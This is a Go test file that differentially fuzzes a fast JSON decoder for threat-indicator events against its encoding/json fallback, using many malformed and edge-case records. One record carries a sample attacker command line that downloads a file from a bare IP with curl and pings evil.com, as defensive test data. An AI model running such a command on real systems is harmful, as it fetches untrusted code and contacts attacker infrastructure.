package jsonmap

import (
	"strings"
	"testing"

	dt "github.com/iocflow/iocflow/pipeline/decode/internal/decodetest"
	"github.com/iocflow/iocflow/pipeline/event"
)

// The fast path is held to decodeGeneric, the encoding/json implementation
// it replaced, which stays as the oracle (and as the fallback for the
// records the fast path does not take).

// oddMapping adds paths whose lookups exercise every rule of the path
// semantics: flattened and nested keys for the same path, paths that are
// prefixes of others, empty steps, and paths ending or starting in a dot.
func oddMapping() Mapping {
	m := DefaultMapping()
	for path, kind := range map[string]string{
		"a": "auto", "a.b": "domain", "a.b.c": "ip", "a..b": "hash", "a.": "text",
		".a": "auto", "x.y.z.w": "auto", "": "auto", "arr.v": "ip", "n": "auto",
	} {
		k, _ := ParseKind(kind)
		m.Fields[path] = k
	}
	m.IDFields = append([]string{"rec.no", "a.id"}, m.IDFields...)
	m.TimeFields = append([]string{"a.t"}, m.TimeFields...)
	m.HostFields = append([]string{"arr.h"}, m.HostFields...)
	return m
}

// edgeRecords are seeds aimed at the differences between a scanner and
// encoding/json: repeated keys, flattened and nested spellings of one
// path, arrays at every step, escapes, invalid UTF-8, numbers at the edge
// of float64, and nesting near the scanner's depth limit.
var edgeRecords = []string{
	`{}`, `{"a":1}`, `null`, ` {"a":"x"} `, `{"a":"x"} x`, `[{"a":"1.2.3.4"}]`, `"a"`,
	`{"source":{"ip":"1.2.3.4"},"source.ip":"5.6.7.8"}`,
	`{"source.ip":"5.6.7.8","source":{"ip":"1.2.3.4"}}`,
	`{"source":{"ip":"1.2.3.4"},"source":{"ip":"9.9.9.9"}}`,
	`{"source":{"ip":"1.2.3.4"},"source":null}`,
	`{"a":{"b":{"c":"1.1.1.1"},"b.c":"2.2.2.2"},"a.b":{"c":"3.3.3.3"},"a.b.c":"4.4.4.4"}`,
	`{"a":{"b":{"c":"1.1.1.1"},"b.c":"2.2.2.2"},"a.b":{"c":"3.3.3.3"}}`,
	`{"a":[{"b":"x.example"},[{"b":"y.example"}],"z.example",{"b":["w.example",["v.example"]]}]}`,
	`{"a":{"":{"b":"44d88612fea8a8f36de82e1278abb02f"}},"":{"a":"evil.example"},"a.":"t"}`,
	`{"arr":[{"v":"1.2.3.4","h":""},{"v":"::1","h":"host-b"}],"n":12}`,
	`{"event":{"id":12.5},"@timestamp":1609852746123}`,
	`{"event":{"id":""},"id":1e21,"timestamp":"2021-01-05T13:19:06.123456789+01:00"}`,
	`{"id":-0,"time":-1.5e2}`, `{"id":1e400}`, `{"skip":{"deep":[1e400]}}`, `{"id":1e-400}`,
	`{"time":null}`, `{"time":true}`, `{"time":{}}`, `{"time":[]}`, `{"time":["x"]}`,
	`{"time":"noon"}`, `{"@timestamp":"2020-10-27T20:00:14.320Z","time":"noon"}`,
	`{"url":"http://a.example/\u00e9\ud800x","domain":"b\u002eexample"}`,
	"{\"domain\":\"a\xffb.example\",\"user\":\"\xc3\",\"host\":{\"name\":\"h\xe2\x82\"}}",
	"{\"do\xffmain\":\"x.example\",\"q\\u00e9\":1}",
	`{"domain":"a.example","domain":"b.example","domain":["c.example",1,null,{"x":1}]}`,
	`{"process":{"command_line":"curl http://1.2.3.4/x -o /tmp/a; ping evil.com"}}`,
	`{"hash":"abc","md5":"XYZ","sha256":"` + strings.Repeat("A", 64) + `","ip":"300.1.1.1"}`,
	`{"a":"x",}`, `{"a" "x"}`, `{"a":01}`, `{"a":tru}`, `{"a":"\x"}`, "{\"a\":\"\x01\"}",
	`{"a":[1,]}`, `{"a":[1 2]}`, `{"a":"x"`, "\xef\xbb\xbf{}", `{"a":-}`, `{"a":1.}`,
	`{"user":{"name":"alice"},"username":"bob","user.name":"carol"}`,
	`{"rec":{"no":7},"a":{"id":"x","t":"2024-02-29T00:00:00Z"}}`,
	strings.Repeat(`{"a":`, 511) + `"q.example"` + strings.Repeat(`}`, 511),
	strings.Repeat(`{"a":`, 513) + `"q.example"` + strings.Repeat(`}`, 513),
	strings.Repeat(`[`, 600) + strings.Repeat(`]`, 600),
	`{"n":` + strings.Repeat("9", 320) + `}`, `{"n":` + strings.Repeat("9", 301) + `}`,
}

// transcript decodes data with decode and writes what came of it.
func transcript(data []byte, decode func([]byte, *event.Event) error) string {
	var ev event.Event
	err := decode(data, &ev)
	var b strings.Builder
	dt.Transcript(&b, "record", &ev, err)
	return b.String()
}

// differ compares Decode with decodeGeneric on data, and the fast path
// itself whenever it takes the record. It reports whether it did.
func differ(t *testing.T, d *Decoder, data []byte) (fast bool) {
	t.Helper()
	want := transcript(data, d.decodeGeneric)
	if got := transcript(data, d.Decode); got != want {
		t.Fatalf("Decode differs from the generic decoder on %q:\n got  %s\n want %s",
			data, got, want)
	}
	var ev event.Event
	st := new(state)
	err := st.decode(d, data, &ev)
	if err == errFallback {
		if len(ev.Observables) != 0 || ev.ID != "" || ev.Format != "" {
			t.Fatalf("fast path touched the event before falling back on %q", data)
		}
		return false
	}
	var b strings.Builder
	dt.Transcript(&b, "record", &ev, err)
	if b.String() != want {
		t.Fatalf("fast path differs from the generic decoder on %q:\n got  %s\n want %s",
			data, b.String(), want)
	}
	return true
}

// TestFast_SameAsGeneric runs the corpus, the fuzz seeds and the edge
// records through both decoders, with the default and the odd mapping,
// and checks that the well-formed records of the corpus took the fast
// path.
func TestFast_SameAsGeneric(t *testing.T) {
	for _, m := range []Mapping{DefaultMapping(), oddMapping()} {
		d := New(m)
		for _, f := range append(files, "testdata/threatfox-api-iocs.ndjson") {
			for _, l := range dt.Lines(t, f) {
				if !differ(t, d, l) {
					t.Errorf("%s: a well-formed record fell back to the generic decoder", f)
				}
			}
		}
		fallbacks := 0
		for _, r := range edgeRecords {
			if !differ(t, d, []byte(r)) {
				fallbacks++
			}
		}
		t.Logf("%d of %d edge records fell back", fallbacks, len(edgeRecords))
	}
}

// FuzzSameAsGeneric is the differential fuzz target: on any input the
// decoder gives what the encoding/json implementation gives, event or
// error, under the default and the odd mapping.
func FuzzSameAsGeneric(f *testing.F) {
	dt.Seed(f, append(files, "testdata/threatfox-api-iocs.ndjson")...)
	for _, r := range edgeRecords {
		f.Add([]byte(r))
	}
	decs := []*Decoder{New(DefaultMapping()), New(oddMapping())}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, d := range decs {
			differ(t, d, data)
		}
	})
}

// TestDecode_Allocs pins the allocations of the fast path on the corpus:
// what remains comes from package ioc canonicalising values (lower-casing
// paths and names) and from extract.Text, not from reading the record.
func TestDecode_Allocs(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts do not hold under the race detector")
	}
	d := New(DefaultMapping())
	recs := dt.Lines(t, files[0])
	var ev event.Event
	for _, r := range recs {
		n := testing.AllocsPerRun(100, func() {
			ev.Reset()
			if err := d.Decode(r, &ev); err != nil {
				t.Fatal(err)
			}
		})
		generic := testing.AllocsPerRun(100, func() {
			ev.Reset()
			_ = d.decodeGeneric(r, &ev)
		})
		t.Logf("allocations per record: %v (generic %v)", n, generic)
		if n > generic/4 {
			t.Errorf("%v allocations per record, generic %v: want under a quarter", n, generic)
		}
	}
}

// genericDecoder is the oracle as a decode.Decoder, for the benchmark.
type genericDecoder struct{ *Decoder }

func (g genericDecoder) Decode(data []byte, ev *event.Event) error {
	return g.decodeGeneric(data, ev)
}

// BenchmarkDecoderGeneric is BenchmarkDecoder on the encoding/json
// implementation, for the ratio in bench/RESULTS.md.
func BenchmarkDecoderGeneric(b *testing.B) {
	dt.BenchLines(b, genericDecoder{New(DefaultMapping())}, files...)
}
